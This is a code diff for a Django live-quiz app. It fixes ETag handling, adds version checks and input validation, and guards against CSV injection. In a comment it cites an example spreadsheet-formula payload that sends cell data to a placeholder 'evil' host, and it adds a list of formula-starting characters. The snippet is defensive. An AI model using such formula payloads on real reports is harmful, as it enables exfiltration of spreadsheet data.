@@ -67,9 +67,24 @@ def _seconds(ms: int | None) -> int | None:
     return None if ms is None else math.ceil(ms / 1000)
 
 
+def _sent_etags(request) -> list[str]:
+    """The entity tags of If-None-Match, without quotes or the weak ``W/`` prefix.
+
+    Browsers send back what they got, but a proxy or a compressing middleware may have made
+    the tag weak (``W/"..."``); If-None-Match uses the weak comparison (RFC 9110, 13.1.2).
+    """
+    tags = []
+    for tag in request.headers.get("If-None-Match", "").split(","):
+        tag = tag.strip()
+        if tag[:2] in ("W/", "w/"):
+            tag = tag[2:]
+        tags.append(tag.strip('"'))
+    return [tag for tag in tags if tag]
+
+
 def _not_modified(request, etag: str) -> bool:
-    sent = request.headers.get("If-None-Match", "")
-    return etag in [tag.strip() for tag in sent.split(",")]
+    sent = _sent_etags(request)
+    return "*" in sent or etag.strip('"') in sent
 
 
 def _with_etag(response: HttpResponse, etag: str) -> HttpResponse:
@@ -176,7 +191,12 @@ def _host_reply(request, session: LiveSession, error: str = "", status: int = 20
 def host_action(request: HtmxHttpRequest, session_id: int, action: str) -> HttpResponse:
     session = _hosted(request, session_id)
     try:
-        session = HOST_ACTIONS[action](session=session)
+        # The version the host's screen showed (see services._locked); absent: act anyway.
+        sent = request.POST.get("version", "").strip()
+        if sent and not (sent.isascii() and sent.isdigit()):
+            raise services.LiveError(_("That request could not be read. Reload the page."), 400)
+        expected = int(sent) if sent else None
+        session = HOST_ACTIONS[action](session=session, expected_version=expected)
     except services.LiveError as error:
         session.refresh_from_db()
         return _host_reply(request, session, error.message, error.status)
@@ -193,6 +213,18 @@ def kick(request: HtmxHttpRequest, session_id: int, player_id: int) -> HttpRespo
     return _host_reply(request, session)
 
 
+# A cell starting with one of these is a formula to a spreadsheet: a nickname such as
+# =HYPERLINK("http://evil/?"&A1) would run when the instructor opens the report (OWASP "CSV
+# injection"). A leading apostrophe makes it text.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _csv_cell(value):
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return "'" + value
+    return value
+
+
 @require_GET
 @instructor_required
 def report(request: HtmxHttpRequest, session_id: int) -> HttpResponse:
@@ -201,7 +233,7 @@ def report(request: HtmxHttpRequest, session_id: int) -> HttpResponse:
     response["Content-Disposition"] = f'attachment; filename="live-{session.code}-{session.pk}.csv"'
     writer = csv.writer(response)
     writer.writerow(selectors.REPORT_HEADER)
-    writer.writerows(selectors.report_rows(session))
+    writer.writerows([_csv_cell(cell) for cell in row] for row in selectors.report_rows(session))
     return response
 
 
@@ -215,11 +247,14 @@ def _player(request, code: str) -> Player | None:
 @require_http_methods(["GET", "POST"])
 @never_cache
 def join(request: HtmxHttpRequest) -> HttpResponse:
-    code = (request.POST.get("code") or request.GET.get("code") or "").strip()
+    # "123 456" as read out from the screen is the code 123456.
+    code = "".join((request.POST.get("code") or request.GET.get("code") or "").split())
     nickname = request.POST.get("nickname", "")
     context = {"code": code, "nickname": nickname, "error": ""}
     if request.method == "GET":
-        if codes.looks_like_code(code) and _player(request, code):
+        # A cookie from a finished quiz whose code was drawn again must not hide the form.
+        player = _player(request, code) if codes.looks_like_code(code) else None
+        if player is not None and not player.session.finished:
             return redirect("live:play", code)
         return render(request, "live/join.html", context)
 
@@ -318,7 +353,7 @@ def play(request: HtmxHttpRequest, code: str) -> HttpResponse:
         return _with_etag(response, etag)
     if _not_modified(request, etag):
         return _with_etag(HttpResponse(status=304), etag)
-    if remaining is not None and request.headers.get("If-None-Match", "").startswith(f'"{screen}.'):
+    if remaining is not None and any(tag.startswith(f"{screen}.") for tag in _sent_etags(request)):
         # Only the countdown moved: send just that element, the rest of the screen stays.
         context = {"session": session, "remaining": remaining}
         response = render(request, "live/play.html#countdown", context)
@@ -338,6 +373,8 @@ def answer(request: HtmxHttpRequest, code: str) -> HttpResponse:
     try:
         position = int(request.POST.get("question", "")) - 1
         choice_ids = [int(value) for value in request.POST.getlist("choice")]
+        if position < 0:
+            raise ValueError("question numbers start at 1")
     except ValueError:
         error, status = _("That answer could not be read. Choose again."), 400
     else:
